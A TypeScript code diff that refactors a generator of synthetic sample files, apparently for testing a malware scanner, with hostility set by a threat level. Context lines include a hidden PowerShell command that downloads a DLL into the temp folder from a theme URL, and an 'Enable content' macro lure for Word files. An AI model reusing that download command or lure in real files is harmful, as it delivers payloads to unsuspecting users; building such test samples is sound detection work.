@@ -70,17 +70,23 @@ export interface FileWish {
 
 /** Builds the files of one sample. */
 export class SampleMaker {
+  /** Choices of this sample. */
   readonly random: Rng;
+  /** What its files share. */
+  readonly theme: Theme;
+  readonly #seed: number;
   #made = 0;
 
-  constructor(readonly pool: FilePool, readonly theme: Theme, readonly seed: number) {
+  constructor(readonly pool: FilePool, { theme, seed }: { readonly theme: Theme; readonly seed: number }) {
+    this.theme = theme;
+    this.#seed = seed;
     this.random = new Rng(mix(seed, 0xf17e));
   }
 
   /** A file of this kind; hostile parts follow the level, which is the theme's unless wished otherwise. */
   file(kind: Kind, wish: FileWish = {}): FileNode {
     const level = wish.level ?? this.theme.level;
-    const seed = mix(this.seed, ++this.#made);
+    const seed = mix(this.#seed, ++this.#made);
     const theme = level === this.theme.level ? this.theme : { ...this.theme, level };
     const children = wish.children ?? [];
     const recipe = {
@@ -98,7 +104,7 @@ export class SampleMaker {
       ...recipe,
       ...(preview ? { preview } : {}),
       type: typeOf(kind, theme, seed),
-      bytes: () => makeBytes(kind, theme, new Rng(seed), { seed, children, payload: wish.payload }),
+      bytes: () => BUILDERS[kind](theme, new Rng(seed), { seed, children, payload: wish.payload }),
     });
   }
 
@@ -127,7 +133,11 @@ function members(children: readonly ChildRef[]) {
   return children.map((child) => ({ name: child.name, bytes: child.file.bytes() }));
 }
 
-function program(theme: Theme, random: Rng, dll: boolean, seed: number): Uint8Array {
+function program(
+  theme: Theme,
+  random: Rng,
+  { dll, seed }: { readonly dll: boolean; readonly seed: number },
+): Uint8Array {
   const hostile = theme.level !== "info" && theme.level !== "safe";
   const packed = theme.level === "suspicious" || theme.level === "highly";
   const wide = dll || seed % 3 === 0;
@@ -188,7 +198,7 @@ const BUILDERS: Readonly<Record<Kind, Builder>> = {
   batch: makeBatch,
   python: (_, random) =>
     join(`#!/usr/bin/env python3\nimport sys\n\n\ndef main():\n    print("${random.hex(8)}")\n\n\nmain()\n`),
-  mail: (theme, random, { children }) => makeMail(theme, random, members(children)),
+  mail: (theme, random, { children }) => makeMail(theme, random, { attachments: members(children) }),
   pdf: makePdf,
   word: (theme, random) =>
     makeOffice("word", `${theme.company} ${theme.number} ${prose(random, 8)} ${random.hex(8)}`),
@@ -197,10 +207,12 @@ const BUILDERS: Readonly<Record<Kind, Builder>> = {
     makeOffice(
       "word",
       `Enable content to view. ${random.hex(8)}`,
-      payload ? latin1(payload.bytes()) : macroText(theme, random),
+      {
+        macro: payload ? latin1(payload.bytes()) : macroText(theme, random),
+      },
     ),
-  program: (theme, random, { seed }) => program(theme, random, false, seed),
-  library: (theme, random, { seed }) => program(theme, random, true, seed),
+  program: (theme, random, { seed }) => program(theme, random, { dll: false, seed }),
+  library: (theme, random, { seed }) => program(theme, random, { dll: true, seed }),
   elf: (theme, random, { seed }) =>
     makeElf(seed, [...theme.urls, "/bin/busybox", "/proc/net/tcp", random.hex(12)]),
   zip: (_, __, { children }) => makeZip(members(children)),
@@ -212,7 +224,7 @@ const BUILDERS: Readonly<Record<Kind, Builder>> = {
         : `/c powershell -w hidden -c "iwr ${theme.urls[0]} -OutFile $env:TEMP\\${random.hex(5)}.dll"`,
       `Document ${theme.number}`,
     ),
-  picture: (_, random, { seed }) => makePng(seed, random.pick([96, 120, 160]), 64),
+  picture: (_, random, { seed }) => makePng(seed, { width: random.pick([96, 120, 160]), height: 64 }),
   uri: (theme) => join(`uri: ${theme.urls[0]}\n`),
   capture: (theme, random) =>
     join(
@@ -222,7 +234,3 @@ const BUILDERS: Readonly<Record<Kind, Builder>> = {
     ),
   marker: (theme, random) => join(`test file ${random.hex(8)} ${theme.number}\n`),
 };
-
-function makeBytes(kind: Kind, theme: Theme, random: Rng, parts: Parts): Uint8Array {
-  return BUILDERS[kind](theme, random, parts);
-}
